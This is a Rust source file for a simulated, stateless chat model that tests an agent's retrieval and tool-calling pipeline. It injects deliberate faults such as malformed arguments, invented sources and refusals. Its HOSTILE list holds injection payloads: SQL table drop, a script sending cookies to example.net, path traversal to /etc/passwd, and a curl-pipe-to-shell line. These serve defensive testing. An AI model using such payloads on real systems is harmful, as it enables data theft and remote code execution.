//! The simulated chat model: one request in, one completion out, no state.
//!
//! It is honest but simple: it searches with the words of the question, decides by word overlap whether the passages
//! suffice, asks the external service if they do not, indexes key phrases, and answers with sentences from its context.
//! Its declared [`Habit`]s cause mistakes; after feedback it corrects them, unless it persists.

use super::behaviour::{Caller, ModelBehaviour, Rule};
use super::compose::{Composed, compose, subject};
use super::dice::Dice;
use super::habit::{Habit, Habits, Step};
use super::reason_act::{self, Act};
use super::required;
use super::sentences::{content_words, key_phrases, overlap};
use super::situation::{Chunk, Situation, question_at};
use crate::provider::chat::{Finish, Message, Role, ToolCall, ToolChoice, ToolDefinition};
use serde_json::{Value, json};
use std::time::Duration;

/// Input of the model.
pub(super) struct Prompt<'a> {
    pub messages: &'a [Message],
    /// The tools offered.
    pub tools: &'a [ToolDefinition],
    /// Which tools may or must be called.
    pub choice: ToolChoice,
    /// Data about the trial.
    pub caller: Caller<'a>,
}

impl Prompt<'_> {
    /// The offered tool of the step.
    fn tool_of(&self, step: Step) -> Option<&ToolDefinition> {
        self.tools.iter().find(|tool| Step::of_tool(&tool.name) == Some(step))
    }
}

/// Output of the model.
#[derive(Debug, Clone, PartialEq)]
pub(super) struct Completion {
    /// Free text.
    pub text: String,
    /// A refusal, in the separate field.
    pub refusal: Option<String>,
    pub calls: Vec<ToolCall>,
    pub finish: Finish,
}

/// A completion, its response time, and the number of failures before it.
#[derive(Debug, Clone, PartialEq)]
pub(super) struct Outcome {
    pub completion: Completion,
    /// Response time.
    pub latency: Duration,
    /// Number of 429 responses before it.
    pub rate_limited: u32,
    /// Number of 500 responses before it.
    pub server_errors: u32,
}

const HOSTILE: &[&str] = &[
    "'; DROP TABLE chunks; --",
    "<script>fetch('https://example.net/'+document.cookie)</script>",
    "../../../../etc/passwd",
    "$(curl https://example.net/x.sh | sh)",
    "{{ config.items() }}",
];

struct Turn<'a> {
    prompt: &'a Prompt<'a>,
    behaviour: &'a ModelBehaviour,
    rules: Vec<&'a Rule>,
    habits: Habits,
    dice: Dice,
    question: &'a str,
    earlier: Vec<&'a str>,
    asked: Vec<String>,
    /// Whether the question is self-contained and in the documents' language.
    stands_alone: bool,
}

/// A query without a subject.
const VAGUE: &str = "general background information";

/// Words that a model adds to a rephrased query.
const FILLERS: &[&str] = &["", "explained", "details", "details explained"];

/// Answers one request.
pub(super) fn complete(behaviour: &ModelBehaviour, seed: u64, prompt: &Prompt<'_>) -> Outcome {
    let at = question_at(prompt.messages).unwrap_or(0);
    let turn = Turn::new(behaviour, seed, prompt, at);
    let offers = |step: Step| prompt.tool_of(step).is_some();
    let retries = turn.habits.shows(Habit::RetrySearch, Step::External, 0, &turn.dice);
    let situation = Situation::read(
        prompt.messages.get(at..).unwrap_or_default(),
        &offers,
        &|chunks| turn.suffices(chunks),
        retries,
    );
    let step = match &prompt.choice {
        ToolChoice::Named(name) => Step::of_tool(name).unwrap_or(Step::Knowledge),
        _ => situation.step(&offers),
    };
    let attempt = situation.attempt(step);
    let first = prompt.messages.len() <= at + 1;
    let worked_out = || turn.reasons(at).unwrap_or_else(|| turn.obliged(at, turn.speak(&situation, step, attempt)));
    // With `calls: []` a rule asks for a model that breaks its obligation.
    let breaks = turn.rule(|rule| rule.calls.as_deref()).is_some_and(<[_]>::is_empty);
    let completion =
        turn.scripted(at).map_or_else(worked_out, |said| if breaks { said } else { turn.obliged(at, said) });
    let moment = Dice::new(seed, &["moment", prompt.caller.seed, turn.question, &prompt.messages.len().to_string()]);
    let mut latency = behaviour.latency.draw(&moment);
    if turn.habits.failures(Habit::Slow, step, &turn.dice) > 0 && attempt == 0 {
        latency += behaviour.slow_by.0;
    }
    if turn.rule(|rule| rule.slow_over).is_some_and(|most| at > most) {
        latency += behaviour.slow_by.0;
    }
    let failures = |habit| if first { turn.habits.failures(habit, step, &turn.dice) } else { 0 };
    let down = turn.rule(|rule| rule.fails_at.as_deref()).is_some_and(|at| at == prompt.choice.to_string());
    let server_errors = if down { u32::MAX } else { failures(Habit::ServerError) };
    Outcome { completion, latency, rate_limited: failures(Habit::RateLimited), server_errors }
}

impl<'a> Turn<'a> {
    fn new(behaviour: &'a ModelBehaviour, seed: u64, prompt: &'a Prompt<'a>, at: usize) -> Self {
        let question = prompt.messages.get(at).map_or("", |message| message.content.as_str());
        let rules: Vec<&Rule> =
            behaviour.rules.iter().filter(|rule| rule.when.holds(question, prompt.caller)).collect();
        let mut habits = behaviour.habits.clone();
        for one in behaviour.unless_asked.iter().filter(|one| prompt.caller.omits(&one.rule)) {
            habits.overlay(&one.habits);
        }
        for rule in &rules {
            habits.overlay(&rule.habits);
        }
        let dice = Dice::new(seed, &["model", prompt.caller.seed, &at.to_string(), question]);
        let forgets = habits.shows(Habit::ForgetHistory, Step::Knowledge, 0, &dice);
        let said = prompt.messages[..at].iter().filter(|message| message.role == Role::User && !forgets);
        let earlier: Vec<&str> = said.map(|message| message.content.as_str()).collect();
        let (asked, stands_alone) = match rules.iter().rev().find_map(|rule| rule.search_query.as_deref()) {
            Some(query) => (content_words(query), overlap(&content_words(query), question) >= 0.5),
            None => (subject(question, &earlier), subject(question, &earlier) == subject(question, &[])),
        };
        Self { prompt, behaviour, rules, habits, dice, question, earlier, asked, stands_alone }
    }

    fn rule<T>(&self, read: impl Fn(&'a Rule) -> Option<T>) -> Option<T> {
        self.rules.iter().rev().find_map(|rule| read(rule))
    }

    /// Which of `choices` alternatives the turn takes for `what`: the first, unless the model varies.
    fn variation(&self, what: &str, choices: usize) -> usize {
        let varies = self.dice.roll(&format!("{what} varies")) < self.behaviour.variety;
        if varies { self.dice.pick(what, choices) } else { 0 }
    }

    /// Whether a query is the user's own words.
    fn copies(&self, step: Step, attempt: u32) -> bool {
        let able = self.stands_alone || self.habits.is_declared(Habit::VerbatimQuery);
        self.asked.is_empty() || (able && self.habits.shows(Habit::VerbatimQuery, step, attempt, &self.dice))
    }

    /// The query for documents, as phrased in this turn.
    fn worded(&self, query: &str) -> String {
        format!("{query} {}", FILLERS[self.variation("words", FILLERS.len())]).trim_end().to_owned()
    }

    fn suffices(&self, chunks: &[Chunk]) -> bool {
        let share = |chunk: &Chunk| overlap(&self.asked, &format!("{} {}", chunk.title, chunk.text));
        let enough = self.behaviour.sufficient_overlap;
        let documents = || chunks.iter().filter(|chunk| !chunk.learned).any(|chunk| share(chunk) >= enough);
        chunks.iter().any(|chunk| chunk.learned && share(chunk) >= enough * 0.8)
            || self.rule(|rule| rule.sufficient).unwrap_or_else(documents)
    }

    /// The next output of a rule with `calls`, after those of its calls that were made since the question at `at`.
    fn scripted(&self, at: usize) -> Option<Completion> {
        let script = self.rule(|rule| rule.calls.as_deref())?;
        let since = self.prompt.messages.get(at..).unwrap_or_default();
        let made = since.iter().filter(|message| message.role == Role::Assistant && !message.calls.is_empty()).count();
        // Without tools there is nothing to call: a request that sorts questions, for example.
        Some(match script.get(made).filter(|_| !self.prompt.tools.is_empty()) {
            Some(next) => calls(vec![self.call(&next.tool, &Value::Object(next.arguments.clone()), 0, made)]),
            None => text(self.rule(|rule| rule.answer.clone()).unwrap_or_default()),
        })
    }

    /// The output in an agent that reasons, acts and observes; `None` in any other.
    fn reasons(&self, at: usize) -> Option<Completion> {
        self.prompt.tools.iter().find(|tool| tool.name == reason_act::SEARCH)?;
        let since = self.prompt.messages.get(at..).unwrap_or_default();
        let fixed = self.rule(|rule| rule.answer.as_deref());
        let choice = match &self.prompt.choice {
            ToolChoice::None => {
                // Such an agent shortens its history: what is recalled must stand in what is left of it.
                let before = self.prompt.messages[..at].iter().filter(|message| message.role != Role::System);
                let before: Vec<&str> = before.map(|message| message.content.as_str()).collect();
                let own = if reason_act::asks_for_own(self.question) { self.recalled(&before) } else { Vec::new() };
                let length = 2 + self.variation("length", 2);
                return Some(text(reason_act::answer(since, &self.asked, fixed, &own, length)));
            }
            ToolChoice::Named(name) => Some(name.as_str()),
            _ => None,
        };
        let steps = self.rule(|rule| rule.steps.as_deref()).unwrap_or_default();
        let copied = self.copies(Step::Knowledge, 0).then_some(self.question);
        Some(match reason_act::act(self.behaviour, choice, since, (&self.asked, copied), steps) {
            Act::Call(name, arguments) => calls(vec![self.call(name, &arguments, 0, 0)]),
            Act::Say(words) => text(words),
        })
    }

    /// What the model says, as the arguments of a call where the request requires one.
    fn obliged(&self, at: usize, said: Completion) -> Completion {
        let since = self.prompt.messages.get(at..).unwrap_or_default();
        let tool = required::tool(self.prompt.tools, &self.prompt.choice, since);
        match tool.filter(|_| said.calls.is_empty()) {
            Some(tool) => {
                calls(vec![self.call(&tool.name, &self.filled(json!({}), tool, &|| said.text.clone()), 0, 0)])
            }
            None => said,
        }
    }

    /// Arguments with all that the tool's schema requires.
    fn filled(&self, arguments: Value, tool: &ToolDefinition, answer: &dyn Fn() -> String) -> Value {
        if !required::is_missing(&arguments, &tool.parameters) {
            return arguments;
        }
        let query = self.worded(&self.asked.join(" "));
        required::filled(arguments, &tool.parameters, &required::Words { answer: &answer(), query: &query })
    }

    fn speak(&self, situation: &Situation, step: Step, attempt: u32) -> Completion {
        let shows = |habit| self.habits.shows(habit, step, attempt, &self.dice);
        let free = self.prompt.choice == ToolChoice::Auto;
        let length = 3 + self.variation("length", 3);
        let fixed = self.rule(|rule| rule.answer.as_deref());
        let composed = || match &situation.embeds[..] {
            embeds @ [_, ..] if fixed.is_none() => Composed { text: embeds.join("\n\n"), ..Composed::default() },
            _ => compose(situation, &self.asked, fixed, &self.recalled(&self.earlier), length),
        };
        if self.prompt.tools.is_empty() || self.prompt.choice == ToolChoice::None {
            return text(composed().text);
        }
        if free && shows(Habit::ForgetKnowledgeBase) {
            return text("From what I remember, this depends on the model and its settings.".into());
        }
        if free && shows(Habit::ForgetResponse) {
            return text(composed().text);
        }
        if free && shows(Habit::Refuse) {
            let refusal = Some("I cannot help with this request.".to_owned());
            return Completion { text: String::new(), refusal, calls: Vec::new(), finish: Finish::ContentFilter };
        }
        if matches!(&self.prompt.choice, ToolChoice::Named(name) if Step::of_tool(name).is_none()) {
            return text(composed().text);
        }
        let mut wanted = match step {
            Step::Knowledge if free && shows(Habit::ExternalFirst) => vec![Step::External],
            Step::Knowledge if free && shows(Habit::ExternalBeside) => vec![step, Step::External],
            Step::Index if free && shows(Habit::SkipKeywords) => vec![Step::Respond],
            Step::Respond if free && shows(Habit::ResponseBeside) => vec![Step::Knowledge, step],
            step => vec![step],
        };
        wanted.retain(|step| self.prompt.tool_of(*step).is_some());
        if wanted.is_empty() {
            return text(composed().text);
        }
        let faulty = |habit| shows(habit).then_some(habit);
        let fault = faulty(Habit::MalformedArguments)
            .or_else(|| faulty(Habit::WrongSchema))
            .or_else(|| faulty(Habit::UnknownTool));
        let made = wanted.into_iter().enumerate().map(|(at, wanted)| {
            let tool = self.prompt.tool_of(wanted);
            let name = tool.map_or(wanted.tool(), |tool| &tool.name);
            let arguments = match wanted {
                Step::Knowledge => json!({"query": self.search_query(attempt), "top_k": self.top_k()}),
                Step::External => self.external_arguments(situation, attempt),
                Step::Index => self.index_arguments(situation, attempt),
                Step::Respond => response_arguments(&composed(), &shows),
            };
            let arguments = match tool {
                Some(tool) => self.filled(fitting(&arguments, wanted, &tool.parameters), tool, &|| composed().text),
                None => arguments,
            };
            match fault {
                Some(Habit::WrongSchema) => self.call(name, &wrong_types(wanted), attempt, at),
                Some(Habit::UnknownTool) => self.call(&format!("{name}_v2"), &arguments, attempt, at),
                Some(_) => {
                    let mut call = self.call(name, &arguments, attempt, at);
                    call.arguments.pop();
                    call
                }
                None => self.call(name, &arguments, attempt, at),
            }
        });
        calls(made.collect())
    }

    /// What the model repeats of earlier messages.
    fn recalled(&self, earlier: &[&str]) -> Vec<String> {
        let mut found: Vec<String> = Vec::new();
        for pattern in &self.behaviour.recall {
            // The last mention counts: people correct themselves.
            let last = earlier.iter().rev().find_map(|said| pattern.0.find_iter(said).last());
            if let Some(hit) = last
                && !found.iter().any(|known| known == hit.as_str())
            {
                found.push(hit.as_str().to_owned());
            }
        }
        found
    }

    fn tailored(&self, step: Step, attempt: u32, query: String) -> String {
        if !self.habits.shows(Habit::HostileQuery, step, attempt, &self.dice) {
            return query;
        }
        let hostile = self
            .rule(|rule| rule.hostile.as_deref())
            .unwrap_or_else(|| HOSTILE[self.dice.pick("hostile", HOSTILE.len())]);
        format!("{query} {hostile}")
    }

    fn top_k(&self) -> u32 {
        let more = u32::try_from(self.variation("passages", 3)).unwrap_or_default();
        self.rule(|rule| rule.top_k).unwrap_or(self.behaviour.top_k + more)
    }

    fn search_query(&self, attempt: u32) -> String {
        let step = Step::Knowledge;
        let query = if self.habits.shows(Habit::VagueQuery, step, attempt, &self.dice) {
            VAGUE.to_owned()
        } else if self.copies(step, attempt) {
            self.question.to_owned()
        } else {
            self.worded(&self.rule(|rule| rule.search_query.clone()).unwrap_or_else(|| self.asked.join(" ")))
        };
        self.tailored(step, attempt, query)
    }

    fn external_arguments(&self, situation: &Situation, attempt: u32) -> Value {
        let step = Step::External;
        let query = if self.copies(step, attempt) {
            self.question.to_owned()
        } else {
            self.rule(|rule| rule.external_query.clone())
                .unwrap_or_else(|| format!("{}: current facts and rules", self.asked.join(" ")))
        };
        let mut arguments = json!({"query": self.tailored(step, attempt, query)});
        let titles: Vec<&str> = situation.chunks.iter().map(|chunk| chunk.title.as_str()).collect();
        if let Some(first) = titles.first() {
            arguments["context"] = json!(format!("The knowledge base offers only related passages, such as: {first}."));
        }
        arguments
    }

    fn index_arguments(&self, situation: &Situation, attempt: u32) -> Value {
        let (result, query, answer) = situation.external.as_ref().map_or(("", "", ""), |external| {
            (external.result.as_str(), external.query.as_str(), external.answer.as_str())
        });
        let keywords = if self.habits.shows(Habit::PoorKeywords, Step::Index, attempt, &self.dice) {
            self.rule(|rule| rule.poor_keywords.clone())
                .unwrap_or_else(|| ["information", "data", "x"].map(str::to_owned).to_vec())
        } else {
            self.rule(|rule| rule.keywords.clone()).unwrap_or_else(|| key_phrases(&self.asked, answer))
        };
        json!({"keywords": keywords, "query": query, "perplexity_result_id": result})
    }

    fn call(&self, name: &str, arguments: &Value, attempt: u32, at: usize) -> ToolCall {
        let label = format!("call/{name}/{attempt}/{at}/{}", self.prompt.messages.len());
        ToolCall {
            id: format!("call_{}", self.dice.id(&label)),
            name: name.to_owned(),
            arguments: arguments.to_string(),
        }
    }
}

/// Arguments under the names in a tool's schema, which may be another agent's: the main one goes to the first text if there
/// is none of its name. Names that the schema lacks are left out: a real model sends none.
fn fitting(arguments: &Value, step: Step, schema: &Value) -> Value {
    let properties = schema.get("properties").and_then(Value::as_object).filter(|properties| !properties.is_empty());
    let (Some(given), Some(properties)) = (arguments.as_object(), properties) else { return arguments.clone() };
    let takes = |kind: &str, name: &String| properties.get(name).is_some_and(|property| property["type"] == kind);
    let required = schema.get("required").and_then(Value::as_array).into_iter().flatten().filter_map(Value::as_str);
    let mut names = required.map(str::to_owned).chain(properties.keys().cloned());
    let other = match step {
        Step::Knowledge | Step::External => names.find(|name| takes("string", name)).map(|name| ("query", name)),
        Step::Index => names.find(|name| name.ends_with("result_id")).map(|name| ("perplexity_result_id", name)),
        Step::Respond => names.find(|name| takes("string", name)).map(|name| ("answer", name)),
    };
    let fitted = given.iter().filter_map(|(name, value)| {
        let name = match &other {
            Some((ours, theirs)) if ours == name && !properties.contains_key(name) => theirs,
            _ => name,
        };
        let property = properties.get(name)?;
        let plain = property.pointer("/items/type").is_some_and(|kind| kind == "string");
        let ids = || value.as_array()?.iter().map(|item| item.get("id").cloned()).collect::<Option<Vec<Value>>>();
        let value = if plain { ids().map_or_else(|| value.clone(), Value::Array) } else { value.clone() };
        Some((name.clone(), value))
    });
    Value::Object(fitted.collect())
}

fn text(text: String) -> Completion {
    Completion { text, refusal: None, calls: Vec::new(), finish: Finish::Stop }
}

fn calls(calls: Vec<ToolCall>) -> Completion {
    Completion { text: String::new(), refusal: None, calls, finish: Finish::ToolCalls }
}

fn response_arguments(composed: &Composed, shows: &dyn Fn(Habit) -> bool) -> Value {
    let mut sources = composed.sources.clone();
    if shows(Habit::InventSource) {
        sources.push(json!({"kind": "internal", "id": "field-notes#99", "title": "Field notes"}));
    }
    let wrong = shows(Habit::WrongFlags);
    json!({
        "answer": composed.text,
        "sources": sources,
        "confidence_score": composed.confidence,
        "used_internal_kb": composed.internal,
        "used_external_kb": composed.external != wrong,
    })
}

fn wrong_types(step: Step) -> Value {
    match step {
        Step::Knowledge => json!({"query": ["several", "words"], "top_k": "a few"}),
        Step::External => json!({"question": "what is new"}),
        Step::Index => json!({"keywords": "comma, separated, words", "query": 1}),
        Step::Respond => {
            json!({"answer": "See the manual.", "sources": "the manual", "used_internal_kb": "yes"})
        }
    }
}
